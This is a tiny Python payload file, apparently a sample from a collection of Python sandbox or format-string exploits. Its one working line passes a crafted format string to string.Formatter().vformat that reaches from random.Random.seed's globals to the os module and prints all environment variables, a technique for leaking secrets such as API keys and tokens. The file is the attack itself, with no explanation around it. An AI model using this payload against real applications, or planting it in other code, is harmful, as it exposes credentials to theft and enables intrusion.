# source: own
# effect: environment

import random
import string as text

print(text.Formatter().vformat("{0.__globals__[_os].environ}", (random.Random.seed,), {}))
